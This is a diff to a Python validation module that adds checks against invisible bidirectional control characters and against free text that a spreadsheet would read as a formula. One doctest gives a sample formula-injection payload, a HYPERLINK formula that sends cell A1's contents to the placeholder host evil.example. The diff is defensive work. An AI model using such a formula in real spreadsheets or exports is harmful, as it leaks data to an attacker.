@@ -30,8 +30,10 @@ _CONTROL = re.compile(r"[\x00-\x1f\x7f-\x9f\u2028\u2029]")
 
 
 __all__ = [
+    "BIDI_CONTROLS",
     "MARKUP_LIKE",
     "PLAIN_TEXT_ALLOWED",
+    "bidi_problem",
     "escape",
     "markup_problem",
 ]
@@ -81,6 +83,41 @@ PLAIN_TEXT_ALLOWED = (
 """What free text may hold, as the error messages say it."""
 
 
+BIDI_CONTROLS = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
+"""The bidirectional control characters (embeddings, overrides, isolates, marks): invisible, they
+reorder the characters around them, so ``2.81`` can show as ``18.2``. No curated text holds one."""
+_BIDI = re.compile(f"[{BIDI_CONTROLS}]")
+_FORMULA_START = ("=", "+", "-", "@")
+
+
+def bidi_problem(text: str) -> str | None:
+    """Why ``text`` may not stand in a curated file (it holds a bidirectional control character), or None.
+
+    Parameters
+    ----------
+    text : str
+        Any text of a curated file or report.toml.
+
+    Returns
+    -------
+    str or None
+
+    Examples
+    --------
+    >>> bidi_problem("GDP") is None
+    True
+    >>> print(bidi_problem("GDP \u202e181"))
+    holds the invisible bidirectional control character U+202E at character 5, which reorders what a reader sees; remove it
+    """
+    found = _BIDI.search(str(text))
+    if found is None:
+        return None
+    return (
+        f"holds the invisible bidirectional control character U+{ord(found[0]):04X} at character {found.start() + 1}, "
+        "which reorders what a reader sees; remove it"
+    )
+
+
 def markup_problem(text: str) -> str | None:
     """Why ``text`` may not stand in a free-text field (it looks like markup), or None.
 
@@ -99,7 +136,16 @@ def markup_problem(text: str) -> str | None:
     True
     >>> print(markup_problem("GDP <b>"))
     markup-like text ('<', '>') is not allowed in free text; allowed: ...
+    >>> print(markup_problem('=HYPERLINK("http"&":"&"//evil.example/?q="&A1,"GDP")'))
+    starts with '=', which a spreadsheet reads as the start of a formula; start free text with a word or a digit
     """
+    if message := bidi_problem(text):
+        return message
+    if str(text).startswith(_FORMULA_START):
+        return (
+            f"starts with {str(text)[0]!r}, which a spreadsheet reads as the start of a formula; "
+            "start free text with a word or a digit"
+        )
     found = list(dict.fromkeys(re.findall(MARKUP_LIKE, str(text))))
     if not found:
         return None
